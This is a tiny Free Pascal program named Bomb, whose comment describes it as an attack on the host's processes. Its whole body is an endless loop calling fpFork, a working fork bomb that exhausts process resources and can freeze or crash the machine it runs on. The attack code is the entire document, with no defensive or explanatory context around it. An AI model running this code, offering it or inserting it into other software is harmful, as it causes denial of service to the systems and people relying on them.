// Attacks: the host's processes, from Pascal: forks without end.
program Bomb;
uses BaseUnix;
begin
  while true do fpFork;
end.
